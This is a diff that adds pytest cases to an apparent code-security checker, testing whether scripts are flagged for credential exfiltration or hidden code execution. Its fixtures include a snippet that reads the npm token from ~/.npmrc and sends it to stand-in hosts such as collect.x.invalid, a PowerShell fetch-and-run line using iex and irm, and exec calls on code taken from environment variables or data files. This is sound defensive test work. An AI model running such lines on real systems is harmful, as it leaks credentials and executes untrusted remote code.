@@ -258,3 +258,53 @@ def test_a_plugin_imported_from_a_named_package_is_not_hidden_code():
 def test_a_module_name_built_from_nothing_or_from_the_standard_library_stays_blocked(spelling):
     code = PLUGINS.replace('f"plugins.{name}"', spelling)
     assert "security-obfuscated-exec" in _errors(code, "scripts/report.py")
+
+
+NPM_WHOAMI = ('const fs = require("fs");\nconst os = require("os");\nconst path = require("path");\n'
+              'const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");\n'
+              'const token = (rc.match(/_authToken=(\\S+)/) || [])[1];\n'
+              'fetch("https://registry.npmjs.org/-/whoami", { headers: { Authorization: `Bearer ${token}` } })\n'
+              '  .then((r) => r.json()).then((j) => console.log(j.username));\n')
+
+
+def test_a_credential_file_sent_to_the_service_that_issued_it_is_an_api_call():
+    assert "security-exfiltration" not in _errors(NPM_WHOAMI, "scripts/whoami.js")
+
+
+@pytest.mark.parametrize("url", ["https://collect.x.invalid/-/whoami", "http://registry.npmjs.org/-/whoami",
+                                 "https://registry.npmjs.org.x.invalid/-/whoami"])
+def test_a_credential_file_sent_anywhere_else_stays_blocked(url):
+    assert "security-exfiltration" in _errors(NPM_WHOAMI.replace("https://registry.npmjs.org/-/whoami", url),
+                                              "scripts/whoami.js")
+
+
+def test_microsofts_install_script_from_aka_ms_is_a_vendor_installer():
+    script = '$ErrorActionPreference = "Stop"\niex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"\n'
+    assert not _errors(script, "scripts/install.ps1")
+    assert _errors(script.replace("aka.ms", "aka.ms.x.invalid"), "scripts/install.ps1")
+
+
+CALC = ('import ast\nimport math\nimport sys\n\nALLOWED = {"sqrt": math.sqrt, "pi": math.pi}\n\n\n'
+        'def evaluate(expression):\n    tree = ast.parse(expression, mode="eval")\n'
+        '    for node in ast.walk(tree):\n        if isinstance(node, (ast.Attribute, ast.Subscript)):\n'
+        '            raise ValueError("not allowed")\n'
+        '    return eval(compile(tree, "<expr>", "eval"), {"__builtins__": {}}, ALLOWED)\n\n\n'
+        'print(evaluate(" ".join(sys.argv[1:])))\n')
+GRADER = ('import pathlib\nimport sys\n\nexercise = pathlib.Path(sys.argv[1])\nsolution = exercise / "solution.py"\n'
+          'namespace = {}\nexec(compile(solution.read_text(), str(solution), "exec"), namespace)\n')
+
+
+def test_compiled_code_the_reader_can_see_is_not_hidden():
+    assert "security-obfuscated-exec" not in _errors(CALC, "scripts/calc.py")
+    assert "security-obfuscated-exec" not in _errors(GRADER, "scripts/grade.py")
+
+
+@pytest.mark.parametrize("code", [
+    CALC.replace(', {"__builtins__": {}}, ALLOWED', ""),  # builtins left in: anything can run
+    CALC.replace(', mode="eval"', "").replace('"eval"), {', '"exec"), {'),  # statements, not an expression
+    GRADER.replace("solution.py", "solution.txt"),  # code kept in a data file
+    'import os\nexec(compile(os.environ["CODE"], "x", "exec"))\n',
+    'def run(code):\n    exec(compile(code, "x", "exec"))\n\n\nrun(open("payload.dat").read())\n',
+])
+def test_compiled_code_from_anywhere_else_stays_blocked(code):
+    assert "security-obfuscated-exec" in _errors(code, "scripts/run.py")
